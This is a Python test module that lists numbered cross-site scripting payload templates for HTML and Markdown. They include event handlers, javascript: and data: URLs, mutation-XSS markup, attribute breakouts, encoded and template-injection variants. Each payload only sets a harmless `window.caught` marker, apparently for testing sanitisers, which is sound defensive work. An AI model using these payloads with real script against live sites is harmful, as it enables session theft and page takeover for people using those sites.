"""Attempts to make a script run out of text. Each sets `window.caught`, if it gets that far.

Written after the ways that are known: tags, handlers, addresses, styles, broken markup that a
sanitiser and a browser read differently, other name spaces, templates, Markdown's own syntax.
"""

from collections.abc import Iterator
from itertools import count

_TAGS = """\
<script>{js}</script>
<script src="data:text/javascript,{js}"></script>
<SCRIPT>{js}</SCRIPT>
<script/x>{js}</script>
<script
>{js}</script
>
<scr<script>ipt>{js}</scr</script>ipt>
<img src=x onerror="{js}">
<img src=x onerror={js}>
<img src=x:x onerror&#61;"{js}">
<IMG SRC=x ONERROR="{js}">
<img/src="x"/onerror="{js}">
<img src='x' onerror='{js}' alt='
<img src="x` `<script>{js}</script>"` `>
<svg onload="{js}"></svg>
<svg/onload={js}>
<svg><script>{js}</script></svg>
<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:{js}"><text y=20>press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='{js}'/>#x">
<math><mtext><table><mglyph><style><img src=x onerror="{js}">
<math href="javascript:{js}">press</math>
<body onload="{js}">
<details open ontoggle="{js}"><summary>x</summary></details>
<video src=x onerror="{js}"></video>
<audio src=x onerror="{js}"></audio>
<input autofocus onfocus="{js}">
<select autofocus onfocus="{js}"></select>
<textarea autofocus onfocus="{js}"></textarea>
<button autofocus onfocus="{js}">press</button>
<a href="javascript:{js}">press</a>
<a href="JaVaScRiPt:{js}">press</a>
<a href="java&#115;cript:{js}">press</a>
<a href="java&Tab;script:{js}">press</a>
<a href=" &#14; javascript:{js}">press</a>
<a href="data:text/html,<script>parent.{js}</script>">press</a>
<a href="vbscript:{js}">press</a>
<a href="//x" onmouseover="{js}">over</a>
<iframe src="javascript:parent.{js}"></iframe>
<iframe srcdoc="<script>parent.{js}</script>"></iframe>
<object data="javascript:{js}"></object>
<embed src="javascript:{js}">
<form action="javascript:{js}"><input type=submit value=press></form>
<form><button formaction="javascript:{js}">press</button></form>
<isindex action="javascript:{js}" type=submit value=press>
<base href="javascript:{js}//">
<link rel=stylesheet href="data:text/css,*{{background:url(javascript:{js})}}">
<link rel=import href="data:text/html,<script>{js}</script>">
<meta http-equiv=refresh content="0;url=javascript:{js}">
<style>@import 'javascript:{js}';</style>
<div style="background:url(javascript:{js})">x</div>
<div style="width:expression({js})">x</div>
<div style="animation-name:x" onanimationstart="{js}">x</div>
<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{js}">x</b>
<marquee onstart="{js}">x</marquee>
<noscript><p title="</noscript><img src=x onerror='{js}'>"></noscript>
<template><script>{js}</script></template>
<p title="</p><img src=x onerror='{js}'>">x</p>
<!--><img src=x onerror="{js}">-->
<![CDATA[<img src=x onerror="{js}">]]>
<xss id=x tabindex=1 onfocus="{js}" autofocus></xss>
<div hx-get="javascript:{js}" hx-trigger="load">x</div>
<div hx-on:load="{js}" hx-trigger="load">x</div>
<div data-hx-on--load="{js}">x</div>
</title><script>{js}</script>
</textarea><script>{js}</script>
</style><script>{js}</script>
"><script>{js}</script>
'><img src=x onerror={js}>
" autofocus onfocus="{js}" x="
' onmouseover='{js}' x='
\\u003cscript\\u003e{js}\\u003c/script\\u003e
&lt;script&gt;{js}&lt;/script&gt;
%3Cscript%3E{js}%3C/script%3E
+ADw-script+AD4-{js}+ADw-/script+AD4-
{{{{constructor.constructor('{js}')()}}}}
{{% raw %}}<script>{js}</script>{{% endraw %}}
{{{{ "<script>{js}</script>"|safe }}}}
"""
_MARKDOWN = """\
[press](javascript:{js})
[press](JAVASCRIPT:{js})
[press](javascript&colon;{js})
[press](&#106;avascript:{js})
[press](<javascript:{js}>)
[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2F1Z2h0PTE8L3NjcmlwdD4=)
[press]( javascript:{js} "title")
![picture](javascript:{js})
![picture](x "onerror={js}")
![x"onerror="{js}](x)
[press][1]
<javascript:{js}>
<https://x.example/"onmouseover="{js}>
https://x.example/"onmouseover="{js}
```html
<script>{js}</script>
```
`<img src=x onerror="{js}">`
| <img src=x onerror="{js}"> |
> <svg onload="{js}">
# <script>{js}</script>
- [ ] <input autofocus onfocus="{js}">
"""


def attempts(first: int = 1) -> list[str]:
    """Return the attempts that stand in HTML; each sets `window.caught` to a number of its own."""
    return _numbered(_TAGS, count(first))


def markdown_attempts(first: int = 1) -> list[str]:
    """Return those that stand in Markdown, besides."""
    return _numbered(_MARKDOWN, count(first))


def _numbered(templates: str, numbers: Iterator[int]) -> list[str]:

    return [each.format(js=f"window.caught={next(numbers)}") for each in templates.splitlines()]
